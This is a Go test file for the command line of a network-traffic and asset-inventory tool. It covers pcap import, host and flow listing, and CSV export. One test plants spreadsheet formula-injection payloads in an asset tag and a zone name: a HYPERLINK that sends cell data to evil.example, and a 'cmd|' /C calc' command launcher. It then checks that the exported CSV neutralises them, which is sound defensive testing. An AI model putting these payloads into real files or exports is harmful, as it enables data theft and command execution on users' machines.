package cli

import (
	"compress/gzip"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/zonewalk/zonewalk/app"
)

func TestTrafficCommands(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "demo")
	if code, out, errs := run(t, nil, "demo", "--workspace", dir); code != 0 {
		t.Fatalf("demo: %d %s %s", code, out, errs)
	}
	sample := filepath.Join(t.TempDir(), "sample.pcap")
	if code, out, errs := run(t, nil, "demo", "--workspace", filepath.Join(t.TempDir(), "d2"), "--capture", sample); code != 0 || !strings.Contains(out, "wrote the sample capture") {
		t.Fatalf("demo --capture: %d %s %s", code, out, errs)
	}
	// The same capture gzipped, as captures often travel.
	raw, err := os.ReadFile(sample)
	if err != nil {
		t.Fatal(err)
	}
	capture := filepath.Join(t.TempDir(), "span.pcap.gz")
	f, _ := os.Create(capture)
	gz := gzip.NewWriter(f)
	gz.Write(raw)
	gz.Close()
	f.Close()

	code, out, errs := run(t, nil, "traffic", "import", capture, "--workspace", dir)
	if code != 0 {
		t.Fatalf("traffic import: %d\n%s%s", code, out, errs)
	}
	for _, want := range []string{"span.pcap.gz: pcap, 100 packets, 10 connections, 11 hosts, 10 flows, 2024-03-04 08:00:00",
		"observed in all: 11 hosts (", "hosts seen on the network are in no asset of the inventory"} {
		if !strings.Contains(out, want) {
			t.Errorf("import output lacks %q:\n%s", want, out)
		}
	}
	code, out, _ = run(t, nil, "traffic", "import", "--workspace", dir, capture)
	if code != 0 || !strings.Contains(out, "imported before") {
		t.Errorf("second import: %d %s", code, out)
	}

	// The demo's inventory has some of the scenario's addresses; the rest
	// are candidates.
	code, out, _ = run(t, nil, "traffic", "hosts", "--workspace", dir, "--unmatched", "--format", "json")
	var hosts []struct {
		Address  string   `json:"address"`
		Roles    []string `json:"roles"`
		Decision string   `json:"decision"`
	}
	if code != 0 || json.Unmarshal([]byte(out), &hosts) != nil || len(hosts) < 4 || len(hosts) >= 11 {
		t.Fatalf("hosts --unmatched: %d %s", code, out)
	}
	for _, h := range hosts {
		if h.Decision != "candidate" {
			t.Errorf("unmatched host %s: decision %q", h.Address, h.Decision)
		}
	}
	accept, ignore := hosts[0].Address, hosts[len(hosts)-1].Address

	code, out, errs = run(t, nil, "traffic", "accept", "--workspace", dir, "--host", accept, "--zone", "Safety Instrumented System", "--type", "plc")
	if code != 0 || !strings.Contains(out, "added asset PLC-"+accept+" (PLC, ") || !strings.Contains(out, "in zone Safety Instrumented System") {
		t.Fatalf("accept: %d %s %s", code, out, errs)
	}
	if code, _, errs = run(t, nil, "traffic", "accept", "--workspace", dir, "--host", ignore, "--zone", "Nowhere"); code != 1 || !strings.Contains(errs, `no zone is named "Nowhere"`) {
		t.Errorf("accept into an unknown zone: %d %s", code, errs)
	}
	if code, out, _ = run(t, nil, "traffic", "ignore", "--workspace", dir, "--host", ignore, "--note", "guest"); code != 0 || !strings.Contains(out, "ignored") {
		t.Errorf("ignore: %d %s", code, out)
	}
	code, out, _ = run(t, nil, "traffic", "hosts", "--workspace", dir, "--unmatched")
	if code != 0 || strings.Contains(out, accept+" ") || strings.Contains(out, ignore+" ") || !strings.Contains(out, fmt.Sprintf("%d hosts", len(hosts)-2)) {
		t.Errorf("hosts after accept and ignore:\n%s", out)
	}
	code, out, _ = run(t, nil, "traffic", "flows", "--workspace", dir, "--format", "csv")
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if code != 0 || !strings.HasPrefix(lines[0], "client,client_asset,client_zone,server,") || len(lines) < 5 || len(lines) > 10 {
		t.Errorf("flows csv: %d\n%s", code, out)
	}
	if strings.Contains(out, ignore+",") {
		t.Errorf("flows csv lists the ignored host %s:\n%s", ignore, out)
	}
	if !strings.Contains(out, accept+",PLC-"+accept+",Safety Instrumented System,") {
		t.Errorf("flows csv lacks the accepted PLC with its zone:\n%s", out)
	}
	if code, _, errs = run(t, nil, "traffic", "hosts", "--workspace", dir, "extra"); code != 2 || !strings.Contains(errs, "unexpected argument") {
		t.Errorf("extra argument: %d %s", code, errs)
	}
	notCapture := filepath.Join(t.TempDir(), "notes.txt")
	os.WriteFile(notCapture, []byte("hello\n"), 0o600)
	if code, _, errs = run(t, nil, "traffic", "import", "--workspace", dir, notCapture); code != 1 || !strings.Contains(errs, "notes.txt") || !strings.Contains(errs, "not a pcap") {
		t.Errorf("import of a text file: %d %s", code, errs)
	}
}

// TestTrafficCSVGuardsFormulas: traffic hosts and flows as CSV carry asset
// tags and zone names, which may be anything a person or a bundle typed;
// no cell may begin with what a spreadsheet runs as a formula.
func TestTrafficCSVGuardsFormulas(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "demo")
	sample := filepath.Join(t.TempDir(), "sample.pcap")
	if code, out, errs := run(t, nil, "demo", "--workspace", dir, "--capture", sample); code != 0 {
		t.Fatalf("demo: %d %s %s", code, out, errs)
	}
	const tag, zone = `=HYPERLINK("http://evil.example/?"&A1,"PLC")`, "@SUM(1+1)*cmd|' /C calc'!A0"
	w, err := app.Open(context.Background(), dir, app.Options{Author: "test"})
	if err != nil {
		t.Fatal(err)
	}
	a, ok := w.Asset("asset-plc101") // 10.1.1.10 in the sample capture
	if !ok {
		t.Fatal("demo has no asset-plc101")
	}
	z, _ := w.Zone(a.Zone)
	z.Name = zone
	a.Tag = tag
	if _, err := w.SaveZone(z); err != nil {
		t.Fatal(err)
	}
	if _, err := w.SaveAsset(a); err != nil {
		t.Fatal(err)
	}
	w.Close()
	if code, out, errs := run(t, nil, "traffic", "import", "--workspace", dir, sample); code != 0 {
		t.Fatalf("traffic import: %d %s %s", code, out, errs)
	}
	for _, what := range []string{"hosts", "flows"} {
		code, out, errs := run(t, nil, "traffic", what, "--workspace", dir, "--format", "csv")
		if code != 0 {
			t.Fatalf("traffic %s: %d %s", what, code, errs)
		}
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var sawTag, sawZone bool
		for _, r := range recs[1:] {
			for i, c := range r {
				if c != "" && strings.ContainsRune("=+-@\t\r\n", rune(c[0])) {
					t.Errorf("traffic %s: %s %q would run as a formula", what, recs[0][i], c)
				}
				sawTag = sawTag || c == "'"+tag
				sawZone = sawZone || c == "'"+zone
			}
		}
		if !sawTag || !sawZone {
			t.Errorf("traffic %s: the guarded tag (%v) or zone name (%v) is missing:\n%s", what, sawTag, sawZone, out)
		}
	}
}
